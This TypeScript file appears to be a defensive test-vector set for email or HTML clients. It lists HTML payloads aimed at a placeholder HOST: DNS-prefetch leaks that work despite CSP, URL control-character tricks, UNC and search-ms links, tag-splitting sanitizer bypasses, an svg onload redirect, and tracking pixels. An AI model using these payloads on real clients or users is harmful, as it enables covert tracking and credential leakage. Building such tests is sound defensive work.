import type { Vector } from '../vector.ts';

/** G: host names, URL parsing, and ways around a policy. */
export const URLS: readonly Vector[] = [
  {
    id: 'G01',
    slug: 'dns-prefetch-of-links',
    fires: 'client',
    body: '<a href="https://token.HOST/">x</a> <a href="//other.HOST/">y</a> https://bare.HOST/',
  },
  {
    id: 'G02',
    slug: 'dns-although-blocked',
    head: '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">\n<link rel="dns-prefetch" href="https://hint.HOST">\n<link rel="preconnect" href="https://connect.HOST">\n',
    body: '<img src="https://token.HOST/a" alt="">',
  },
  {
    id: 'G03',
    slug: 'control-characters-in-url',
    encoding: 'quoted-printable',
    body: '<img src="/\n/HOST/1" alt=""><img src="ht\ttps://\nHOST/2" alt=""><img src="\u0001https://HOST/3" alt=""><img src="  https://HOST/4 " alt=""><img src="https:\u000c//HOST/5" alt=""><img src="https&Tab;:&NewLine;//HOST/6" alt="">',
  },
  {
    id: 'G04',
    slug: 'protocol-relative',
    document:
      '<html><head><base href="https://HOST/"></head><body><p>LABEL</p><img src="//HOST/1" alt=""><img src="2" alt=""><img src="/3" alt=""></body></html>',
  },
  {
    id: 'G05',
    slug: 'other-schemes',
    body: [
      '\\\\HOST\\share\\1',
      'file://HOST/share/2',
      'file://///HOST/3',
      'smb://HOST/4',
      'ftp://HOST/5',
      'ws://HOST/6',
      'wss://HOST/7',
      'gopher://HOST/8',
      'ldap://HOST/9',
      'ms-word:ofv|u|https://HOST/10',
      'search-ms:query=x&amp;crumb=location:\\\\HOST\\11',
      'feed:https://HOST/12',
      'jar:https://HOST/13!/x',
      'mhtml:https://HOST/14!x',
      'filesystem:https://HOST/temporary/15',
      'blob:https://HOST/16',
      'intent://HOST/17#Intent;scheme=https;end',
      'moz-icon://https://HOST/18',
    ]
      .map((url) => `<img src="${url}" alt="">`)
      .join(''),
  },
  {
    id: 'G08',
    slug: 'tag-splitting',
    body: '<sc<script></script>ript src="https://HOST/1"></script><im<b>g src="https://HOST/2">x</b><img <img src="https://HOST/3" alt=""><<img src="https://HOST/4" alt=""><img/src="https://HOST/5"/alt=""><svg/onload=location="https://HOST/6"><img src=https://HOST/7?on<b>x</b>',
  },
  {
    id: 'G09',
    slug: 'stashed-originals',
    fires: 'act',
    body: '<span data-original-content="&lt;img src=//HOST/1&gt;">x</span><img data-src="https://HOST/2" data-original-src="https://HOST/3" alt="x"><img proton-src="https://HOST/4" data-mce-src="https://HOST/5" blocked-src="https://HOST/6" moz-do-not-send="true" alt="x"><p data-style="background:url(https://HOST/7)" data-safe-background="https://HOST/8">x</p>',
  },
  {
    id: 'G10',
    slug: 'redirect-to-tracker',
    body: '<img src="https://HOST/redirect/tracker.HOST/open.gif" width="200" height="80" alt="A picture">',
  },
  {
    id: 'G13',
    slug: 'visible-picture-with-token',
    body: '<img src="https://HOST/logo.png?r=Zk3tQ9vXb7LmN2pRw8sYh4JdCf6GaUeT" width="200" height="60" alt="Logo">',
  },
  {
    id: 'G14',
    slug: 'read-duration-stream',
    body: '<img src="https://HOST/slow/rte?kind=duration&amp;id=9c1e5a7d3b" width="300" height="2" alt="">',
  },
];
